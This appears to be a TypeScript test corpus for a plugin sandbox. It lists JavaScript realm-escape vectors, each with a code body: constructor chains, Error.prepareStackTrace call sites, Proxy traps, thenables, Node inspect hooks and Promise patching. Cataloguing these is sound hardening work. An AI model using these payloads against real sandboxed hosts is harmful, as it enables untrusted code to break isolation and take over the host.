import type { PluginVector } from './vector.ts';

/** Ways from a plugin's own realm to that of its host. */
export const REACH_VECTORS: readonly PluginVector[] = [
  {
    id: 'P01',
    kind: 'constructor chain',
    idea: 'climb from the global object to Function',
    body: 'try { climb(globalThis); } catch {} climb((function () { return this; })());',
  },
  { id: 'P02', kind: 'host function', idea: 'climb from a function of the host', body: 'climb(api.emit);' },
  {
    id: 'P03',
    kind: 'host object',
    idea: 'climb from an object of the host',
    needs: 'object',
    body: 'climb(api.object);',
  },
  {
    id: 'P04',
    kind: 'host error',
    idea: 'climb from an error that the host throws',
    body: 'let caught; for (const odd of [Object.create(null), Symbol()]) try { api.emit(odd); } catch (error) { caught ??= error; } climb(caught);',
  },
  {
    id: 'P05',
    kind: 'stack overflow',
    idea: 'exhaust the stack inside of the host, climb from its RangeError',
    body: `let caught;
const dive = () => { try { dive(); } catch { try { api.emit('deep'); } catch (error) { caught ??= error; } } };
dive();
climb(caught);`,
  },
  {
    id: 'P06',
    kind: 'call sites',
    idea: 'Error.prepareStackTrace hands over functions and receivers of the stack',
    body: `Error.prepareStackTrace = (error, sites) => sites;
const sites = new Error().stack;
delete Error.prepareStackTrace;
for (const site of sites)
  for (const thing of [site, site.getThis(), site.getFunction()]) try { climb(thing); } catch {}`,
  },
  {
    id: 'P07',
    kind: 'caller chain',
    idea: 'the caller of a callback is a function of the host',
    needs: 'call',
    body: 'let found; api.call(function probe() { found = probe.caller; }); climb(found);',
  },
  {
    id: 'P08',
    kind: 'host promise',
    idea: 'climb from a promise of the host',
    needs: 'promise',
    body: 'climb(api.promise());',
  },
  {
    id: 'P09',
    kind: 'proxy trap',
    idea: 'the list of arguments that a trap is handed, where the host calls it',
    needs: 'call',
    body: `let found;
api.call(new Proxy(function () {}, { apply(target, self, list) { found = list; } }));
try { climb(found); } catch {}
for (const one of found) climb(one);`,
  },
  {
    id: 'P10',
    kind: 'callback argument',
    idea: 'climb from what the host hands to a callback',
    needs: 'call',
    body: 'let found; api.call((...list) => { found = list; }); for (const one of found) climb(one);',
  },
  {
    id: 'P11',
    kind: 'thenable',
    idea: 'return a thenable: whoever awaits it hands over its functions',
    body: 'return { then(resolve) { try { climb(resolve); } finally { resolve(1); } } };',
  },
  {
    id: 'P12',
    kind: 'inspect hook',
    idea: 'a custom inspection, run when the host logs the result',
    body: "return { [Symbol.for('nodejs.util.inspect.custom')](depth, options, inspect) { for (const one of [inspect, options]) try { climb(one); } catch {} return 1; } };",
  },
  {
    id: 'P13',
    kind: 'conversion hook',
    idea: 'call sites from toJSON and toString, run when the host stores or shows the result',
    body: `const spy = () => {
  Error.prepareStackTrace = (error, sites) => sites;
  const sites = new Error().stack;
  delete Error.prepareStackTrace;
  for (const site of sites) for (const thing of [site.getThis(), site.getFunction()]) try { climb(thing); } catch {}
  return 'x';
};
return { toJSON: spy, toString: spy };`,
  },
  {
    id: 'P41',
    kind: 'rejected import',
    idea: 'climb from the error, and the promise, of an import that fails',
    refusable: true,
    body: "let promise; try { promise = import('nothing:at-all'); await promise; } catch (error) { for (const one of [error, promise]) try { climb(one); } catch {} }",
  },
  {
    id: 'P42',
    kind: 'async constructor',
    idea: 'the constructors of async functions and generators make functions',
    body: `for (const made of [async () => {}, function* () {}, async function* () {}]) {
  try {
    const run = made.constructor('return globalThis');
    const first = run();
    loot(first.next ? (await first.next()).value : await first);
  } catch {}
}`,
  },
  {
    id: 'P59',
    kind: 'patched promise',
    idea: 'patch the own Promise: the await of the host hands over its functions',
    body: `const { then } = Promise.prototype;
Object.defineProperty(Promise.prototype, 'constructor', { value: function Other() {}, configurable: true });
Promise.prototype.then = function (resolve, reject) { try { climb(resolve); } catch {} return then.call(this, resolve, reject); };`,
  },
  {
    id: 'P60',
    kind: 'getter on result',
    idea: 'call sites from a getter that the host reads',
    body: `return { get then() {
  Error.prepareStackTrace = (error, sites) => sites;
  const sites = new Error().stack;
  delete Error.prepareStackTrace;
  for (const site of sites) for (const thing of [site.getThis(), site.getFunction()]) try { climb(thing); } catch {}
  return undefined;
} };`,
  },
];
